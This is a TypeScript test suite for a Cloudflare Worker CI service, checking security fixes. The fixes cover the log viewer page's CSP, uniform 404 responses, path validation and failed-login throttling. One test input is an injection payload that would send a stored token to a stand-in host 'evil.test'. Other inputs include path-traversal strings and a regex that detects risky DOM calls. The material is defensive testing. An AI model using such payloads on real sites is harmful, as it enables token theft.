import { SELF } from 'cloudflare:test'
import { describe, expect, it } from 'vitest'
import { throttleSettings } from '../../src/auth/throttle'
import type { Env } from '../../src/env'
import { jobsByName } from '../job-driver'
import { api, apiJson, createPipelineFrom, createProject, ROOT_TOKEN } from '../world'

/** Issue #9, hole 6 (the low items), and the log viewer's page (hole 2) as the Worker serves it. */
const ORIGIN = 'https://edgejobs.test'

describe('log viewer page', () => {
  async function jobPage() {
    const project = await createProject({ visibility: 'public' })
    const pipeline = await createPipelineFrom(project, 'job:\n  script: x\n')
    const jobs = await jobsByName(project, pipeline.id)
    return { project, jobId: jobs.job.id as number }
  }

  it('is one constant document: no request data in it, a CSP without inline script', async () => {
    const { project, jobId } = await jobPage()
    const res = await SELF.fetch(`${ORIGIN}/${project.path_with_namespace}/-/jobs/${jobId}`)
    expect(res.status).toBe(200)
    const html = await res.text()
    expect(html).not.toContain(project.path_with_namespace)
    expect(html).not.toContain(String(jobId))
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)/) // every script is a file
    expect(html).not.toMatch(/\son\w+=/) // no inline event handlers
    const csp = res.headers.get('Content-Security-Policy')!
    expect(csp).toContain("script-src 'self'")
    expect(csp).not.toContain('unsafe-inline')
    expect(csp).not.toContain('unsafe-eval')
    expect(csp).toContain("frame-ancestors 'none'")
    const script = await SELF.fetch(`${ORIGIN}/-/edgejobs/log-viewer.js`)
    expect(script.headers.get('Content-Type')).toBe('text/javascript; charset=utf-8')
    const code = await script.text()
    expect(code).not.toMatch(/localStorage|sessionStorage|document\.cookie|innerHTML|insertAdjacentHTML|document\.write|eval\(/)
  })

  it.each([
    ['a crafted path', '/${fetch(`//evil.test/`+localStorage.getItem(`edgejobs-token`))}/-/jobs/1'],
    ['an unknown project', '/nobody/nothing/-/jobs/1'],
    ['a bad escape', '/%FF/-/jobs/1'],
    ['a job of another project', '/root/demo/-/jobs/999999999'],
  ])('answers 404 for %s, the same response as for a private project\'s job', async (_name, path) => {
    const privateProject = await createProject({ visibility: 'private' })
    const pipeline = await createPipelineFrom(privateProject, 'job:\n  script: x\n')
    const { job } = await jobsByName(privateProject, pipeline.id)
    const hidden = await SELF.fetch(`${ORIGIN}/${privateProject.path_with_namespace}/-/jobs/${job.id}`)
    const res = await SELF.fetch(`${ORIGIN}${path}`)
    expect(res.status).toBe(404)
    expect(hidden.status).toBe(404)
    expect(await res.text()).toBe(await hidden.text())
    expect([...res.headers.entries()].filter(([name]) => name !== 'date')).toEqual([...hidden.headers.entries()].filter(([name]) => name !== 'date'))
  })

  it('answers 404 for a public project whose jobs are not public', async () => {
    const project = await createProject({ visibility: 'public', public_jobs: false })
    const pipeline = await createPipelineFrom(project, 'job:\n  script: x\n')
    const { job } = await jobsByName(project, pipeline.id)
    expect((await SELF.fetch(`${ORIGIN}/${project.path_with_namespace}/-/jobs/${job.id}`)).status).toBe(404)
  })

  it('leaves /api/-/jobs/:id to the API (a JSON 404), as `api` is no project namespace', async () => {
    const res = await SELF.fetch(`${ORIGIN}/api/-/jobs/1`)
    expect(res.status).toBe(404)
    expect(res.headers.get('Content-Type')).toBe('application/json')
  })

  it('answers 404 when the job is not in that project', async () => {
    const { jobId } = await jobPage()
    const other = await createProject({ visibility: 'public' })
    expect((await SELF.fetch(`${ORIGIN}/${other.path_with_namespace}/-/jobs/${jobId}`)).status).toBe(404)
  })
})

describe('bad escapes', () => {
  it.each(['/api/v4/projects/%FF', '/api/v4/projects/%E0%A4%A/jobs', '/api/v4/projects/1/repository/files/%FF/raw', '/%FF', '/%FF/-/jobs/%FF'])('%s is not a 500', async (path) => {
    const res = await SELF.fetch(`${ORIGIN}${path}`, { headers: { 'PRIVATE-TOKEN': ROOT_TOKEN } })
    expect(res.status).toBeLessThan(500)
    await res.body?.cancel()
  })
})

describe('Link header', () => {
  it('stays bounded whatever the query, keeping the pagination params', async () => {
    const project = await createProject()
    const huge = 'x'.repeat(30_000)
    const res = await api('GET', `/projects/${project.id}/members/all?per_page=1&filler=${huge}&${'a=1&'.repeat(2000)}private_token=${ROOT_TOKEN}`, { token: project.owner.token })
    expect(res.status).toBe(200)
    const link = res.headers.get('Link')!
    expect(link.length).toBeLessThan(8 * 1024)
    expect(link).toContain('per_page=1')
    expect(link).not.toContain('filler')
    expect(link).not.toContain('private_token')
  })
})

describe('HEAD and OPTIONS', () => {
  it('HEAD answers like GET without a body', async () => {
    const project = await createProject()
    for (const path of ['/user', `/projects/${project.id}`, `/projects/${project.id}/jobs`, '/nope']) {
      const get = await api('GET', path, { token: project.owner.token })
      const head = await api('HEAD', path, { token: project.owner.token })
      expect(head.status, path).toBe(get.status)
      expect(head.headers.get('Content-Type'), path).toBe(get.headers.get('Content-Type'))
      expect(head.headers.get('Link'), path).toBe(get.headers.get('Link'))
      expect(await head.text(), path).toBe('')
      await get.body?.cancel()
    }
    const anonymous = await api('HEAD', '/user', { token: null })
    expect(anonymous.status).toBe(401)
  })

  it('OPTIONS lists the allowed methods; an unknown path is 404', async () => {
    const cases: Array<[string, string]> = [
      ['/projects/1/jobs', 'GET, HEAD, OPTIONS'],
      ['/projects/1', 'DELETE, GET, HEAD, OPTIONS, PUT'],
      ['/jobs/1', 'OPTIONS, PUT'],
      ['/projects/1/repository/files/a.txt', 'OPTIONS, POST, PUT'],
    ]
    for (const [path, allow] of cases) {
      const res = await api('OPTIONS', path, { token: null })
      expect(res.status, path).toBe(204)
      expect(res.headers.get('Allow'), path).toBe(allow)
    }
    expect((await api('OPTIONS', '/nothing/here', { token: null })).status).toBe(404)
  })
})

describe('repository file paths follow git', () => {
  it.each(['a%00b', 'a%2F%2Fb', 'a%2F.%2Fb', 'dir%2F', '.git%2Fconfig', 'x%2F.GIT%2Fhooks', 'a%2F..%2Fb'])('%s is refused', async (path) => {
    const project = await createProject()
    const res = await apiJson('POST', `/projects/${project.id}/repository/files/${path}`, {
      token: project.owner.token,
      body: { branch: 'main', content: 'x', commit_message: 'x' },
    })
    expect(res.status).toBe(400)
    expect(res.body).toEqual({ error: 'file_path should be a valid file path' })
  })

  it('ordinary paths with dots still work', async () => {
    const project = await createProject()
    for (const path of ['.gitlab-ci.yml', 'a.b/c..d', 'dir/.gitignore', 'x/...']) {
      const res = await apiJson('POST', `/projects/${project.id}/repository/files/${encodeURIComponent(path)}`, {
        token: project.owner.token,
        body: { branch: 'main', content: 'x', commit_message: 'x' },
      })
      expect(res.status, path).toBe(201)
    }
  })
})

describe('failed authentication throttling', () => {
  let address = 0
  const from = () => `198.51.100.${++address}`

  it('answers 429 with Retry-After after the limit, per address, and never refuses valid tokens', async () => {
    const ip = from()
    const call = (token: string | null, addr = ip) => api('GET', '/user', { token, headers: { 'CF-Connecting-IP': addr } })
    for (let i = 0; i < 10; i++) expect((await call('glpat-wrong-token-guess')).status).toBe(401)
    const throttled = await call('glpat-wrong-token-guess')
    expect(throttled.status).toBe(429)
    expect(await throttled.json()).toEqual({ message: 'Retry later' })
    const retryAfter = Number(throttled.headers.get('Retry-After'))
    expect(retryAfter).toBeGreaterThan(0)
    expect(retryAfter).toBeLessThanOrEqual(60)
    // A valid token from the same address is answered as always, and is not counted.
    expect((await call(ROOT_TOKEN)).status).toBe(200)
    // Another address is not affected; anonymous requests are not failed logins.
    expect((await call('glpat-wrong-token-guess', from())).status).toBe(401)
    expect((await call(null)).status).toBe(401)
    // A wrong job token counts too.
    const jobToken = await api('GET', '/job', { token: null, headers: { 'CF-Connecting-IP': ip, 'JOB-TOKEN': 'glcbt-wrong' } })
    expect(jobToken.status).toBe(429)
  })

  it('is configurable and can be turned off', () => {
    const base = {} as Env
    expect(throttleSettings(base)).toEqual({ limit: 10, windowMs: 60_000 })
    expect(throttleSettings({ ...base, AUTH_FAILURE_LIMIT: '3', AUTH_FAILURE_WINDOW_SECONDS: '5' })).toEqual({ limit: 3, windowMs: 5000 })
    expect(throttleSettings({ ...base, AUTH_FAILURE_LIMIT: '0' }).limit).toBe(0)
  })
})
